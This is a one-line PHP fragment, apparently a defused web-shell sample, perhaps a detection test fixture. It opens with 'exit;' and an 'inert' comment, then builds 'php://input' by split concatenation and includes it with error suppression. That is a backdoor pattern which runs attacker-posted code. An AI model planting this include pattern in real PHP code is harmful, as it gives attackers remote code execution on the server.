<?php exit; /* inert */ $p='php:/'.'/input';@include $p;
